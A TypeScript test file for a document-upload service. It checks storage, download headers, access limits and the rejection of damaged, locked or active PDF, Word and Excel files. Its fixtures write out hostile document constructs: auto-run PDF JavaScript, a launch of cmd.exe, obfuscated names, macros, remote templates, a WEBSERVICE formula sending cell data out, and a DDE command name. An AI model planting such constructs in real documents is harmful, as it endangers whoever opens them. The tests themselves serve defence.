/** Goal: a document comes in as it is when nothing in it acts by itself, is downloaded and never shown, and stands nowhere as a photo. */
import { beforeAll, describe, expect, it } from 'vitest';
import { sql } from '#platform/server/db/index.ts';
import { aDocx, anXlsx, aPdf } from '../../../tests/kit/documents.ts';
import { problemOf, testApp } from '../../../tests/kit/index.ts';
import type { TestApp } from '../../../tests/kit/index.ts';
import { aPicture } from '../../../tests/kit/pictures.ts';
import { DOCUMENT_BYTES_MAX, readFile, readFileInfo, readThumbnail, similarPhotos, uploadDocument, uploadFile } from '../contract/index.ts';
import { attachable, attachableFiles, filesOf } from './index.ts';

let app: TestApp;
beforeAll(async () => { app = await testApp(); });
const upload = (body: Uint8Array, fileName = '实施方案.pdf', person = 'office') => app.as(person).call(uploadDocument, { file: { fileName, body }, placeId: app.id('place/e1') });
const refusedWith = async (body: Uint8Array) => (await problemOf(upload(body))).code;

describe('a document that is handed in', () => {
  it('is kept byte for byte, under its own name with the ending of its content', async () => {
    const [pdf, docx] = [aPdf('Plan'), aDocx('实施方案')];
    const first = await upload(pdf, 'C:\\文件\\实施方案.exe');
    expect(first).toMatchObject({ name: '实施方案.pdf', mediaType: 'application/pdf', byteSize: pdf.byteLength, alreadyUploaded: false });
    expect(new Uint8Array((await app.as('office').call(readFile, { fileId: first.id })).body)).toEqual(pdf);
    expect((await upload(docx, '会议纪要.docx')).mediaType).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    expect(await upload(pdf)).toMatchObject({ id: first.id, alreadyUploaded: true });
    const sheet = anXlsx('活动台账');
    const kept = await upload(sheet, '活动台账.csv');
    expect(kept).toMatchObject({ name: '活动台账.xlsx', mediaType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' });
    expect(new Uint8Array((await app.as('office').call(readFile, { fileId: kept.id })).body)).toEqual(sheet);
    const response = await app.http.inject({ url: app.as('office').urlOf(readFile, { fileId: kept.id }), headers: { authorization: `Bearer ${await app.token('office')}` } });
    expect(response.headers['content-disposition']).toMatch(/^attachment;/);
  });

  it('is downloaded and never shown in the browser', async () => {
    const { id: fileId } = await upload(aPdf('Download'), '关于“创建”的通知.pdf');
    const response = await app.http.inject({ url: app.as('office').urlOf(readFile, { fileId }), headers: { authorization: `Bearer ${await app.token('office')}` } });
    expect(response.headers).toMatchObject({ 'content-type': 'application/pdf', 'x-content-type-options': 'nosniff', 'cache-control': 'private, no-store' });
    expect(response.headers['content-disposition']).toBe(`attachment; filename*=UTF-8''${encodeURIComponent('关于“创建”的通知.pdf')}`);
  });

  it('is no photo: it has no small version, looks like nothing, and a record that asks for a photo does not take it', async () => {
    const { id } = await upload(aPdf('No photo'));
    const photo = await app.as('office').call(uploadFile, { file: { fileName: 'a.jpg', body: await aPicture(3) }, placeId: app.id('place/e1') });
    expect((await app.as('office').call(readFileInfo, { fileId: id })).width).toBeNull();
    expect((await problemOf(app.as('office').call(readThumbnail, { fileId: id }))).status).toBe(404);
    expect((await app.as('office').call(similarPhotos, { fileId: id })).photos).toEqual([]);
    const known = await app.appDb.transaction().execute(async (tx) => {
      const programme = app.id('programme');
      await sql`select people.set_context(${programme}, true, '{}', '{}', '{}')`.execute(tx);
      return [await attachable(tx, programme, [id, photo.id]), await attachableFiles(tx, programme, [id, photo.id]), (await filesOf(tx, programme, [photo.id, id])).map(({ mediaType }) => mediaType)];
    });
    expect(known).toEqual([[photo.id], [id, photo.id], ['image/jpeg', 'application/pdf']]);
    expect((await problemOf(app.as('office').call(uploadFile, { file: { fileName: 'a.jpg', body: aPdf('No photo') }, placeId: app.id('place/e1') }))).code).toBe('files.type_not_accepted');
  });

  it('is seen by those who reach its place and by nobody else', async () => {
    const { id: fileId } = await upload(aPdf('Reach'));
    expect((await app.as('zoneEast').call(readFileInfo, { fileId })).originalName).toBe('实施方案.pdf');
    expect((await problemOf(app.as('zoneWest').call(readFile, { fileId }))).status).toBe(404);
    expect((await problemOf(upload(aPdf('Out of reach'), 'a.pdf', 'zoneWest'))).code).toBe('files.subject_unknown');
  });
});

describe('what is refused', () => {
  it('is told apart by its content: other formats, what is cut short and what is locked', async () => {
    expect(await refusedWith(await aPicture(4))).toBe('files.document_not_accepted');
    expect(await refusedWith(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]))).toBe('files.document_not_accepted');
    expect(await refusedWith(aDocx('slides', {}, 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml'))).toBe('files.document_not_accepted');
    expect(await refusedWith(aDocx('a sheet', {}, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'))).toBe('files.document_damaged');
    expect(await refusedWith(anXlsx('cut').slice(0, -30))).toBe('files.document_damaged');
    expect(await refusedWith(aPdf('cut').slice(0, -20))).toBe('files.document_damaged');
    expect(await refusedWith(aDocx('cut').slice(0, -30))).toBe('files.document_damaged');
    expect(await refusedWith(aPdf('locked', { trailer: '/Encrypt 9 0 R ' }))).toBe('files.document_locked');
    const large = new Uint8Array(DOCUMENT_BYTES_MAX + 1);
    large.set(aPdf('large'));
    expect(await refusedWith(large)).toBe('files.too_large');
  });

  it.each([
    ['a script that runs when it is opened', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ' }],
    ['the same with its letters written as numbers', { catalog: '/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> ' }],
    ['a program that is started', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >> ' }],
    ['another file inside', { catalog: '/Names << /EmbeddedFiles 6 0 R >> ' }],
    ['a script among packed objects', { packed: '6 0 << /S /JavaScript /JS (app.alert(1)) >>' }],
    ['objects packed so that nobody can look into them', { packed: '>', filter: '[/ASCIIHexDecode /FlateDecode]' }],
  ])('a PDF with %s', async (_what, more) => {
    expect(await refusedWith(aPdf('active', more))).toBe('files.document_active');
  });

  it('and one whose packed objects are only text comes in', async () => {
    expect((await upload(aPdf('packed', { packed: '6 0 << /Title (JavaScript for beginners) >>' }))).alreadyUploaded).toBe(false);
  });

  it.each([
    ['macros', aDocx('macros', { 'word/vbaProject.bin': 'x' })],
    ['the type of a document with macros', aDocx('macros', {}, 'application/vnd.ms-word.document.macroEnabled.main+xml')],
    ['an object of another program', aDocx('object', { 'word/embeddings/oleObject1.bin': 'x' })],
    ['a template that is fetched from elsewhere', aDocx('template', { 'word/_rels/settings.xml.rels': '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://example.org/t.dotm" TargetMode="External"/></Relationships>' })],
  ])('a Word document with %s', async (_what, body) => {
    expect(await refusedWith(body)).toBe('files.document_active');
  });

  it.each([
    ['macros', anXlsx('macros', { 'xl/vbaProject.bin': 'x' })],
    ['the type of a workbook with macros', anXlsx('macros', {}, 'application/vnd.ms-excel.sheet.macroEnabled.main+xml')],
    ['a sheet of macros as they were of old', anXlsx('macros', { 'xl/macrosheets/sheet2.xml': '<xm:macrosheet/>' })],
    ['values of another workbook', anXlsx('links', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' })],
    ['a query of outside data', anXlsx('query', { 'xl/connections.xml': '<connections/>' })],
    ['an object of another program', anXlsx('object', { 'xl/embeddings/oleObject1.bin': 'x' })],
    ['a picture that is fetched from elsewhere', anXlsx('picture', { 'xl/drawings/_rels/drawing1.xml.rels': '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://example.org/a.png" TargetMode="External"/></Relationships>' })],
    ['a formula that fetches a page', anXlsx('fetch', { 'xl/worksheets/sheet7.xml': '<worksheet><sheetData><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("https://example.org/?"&amp;B1)</f></c></row></sheetData></worksheet>' })],
    ['the same, spelled in numbers', anXlsx('spelled', { 'xl/worksheets/sheet7.xml': '<worksheet><x:f>&#87;EB<!-- -->SERVICE (A1)</x:f></worksheet>' })],
    ['a name that asks another program', anXlsx('name', { 'xl/names.xml': `<definedName name="a">cmd|'/c calc'!A0</definedName>` })],
  ])('an Excel file with %s', async (_what, body) => {
    expect(await refusedWith(body)).toBe('files.document_active');
  });

  it('and a workbook whose formulas only count comes in, whatever its texts say', async () => {
    const sheet = '<worksheet><c t="inlineStr"><is><t>WEBSERVICE( | )</t></is></c><c><f>SUM(B1:B9)+\'a|b\'!C1&amp;"IMAGE(x)|"</f></c><c><f>HYPERLINK("https://example.org")</f></c><formula1>DAYS(A1,B1)</formula1></worksheet>';
    expect((await upload(anXlsx('counts', { 'xl/worksheets/sheet7.xml': sheet }), 'counts.xlsx')).name).toBe('counts.xlsx');
  });

  it('and one with a link to press comes in', async () => {
    const linked = aDocx('link', { 'word/_rels/document.xml.rels': '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/" TargetMode="External"/></Relationships>' });
    expect((await upload(linked, 'link.docx')).name).toBe('link.docx');
  });
});
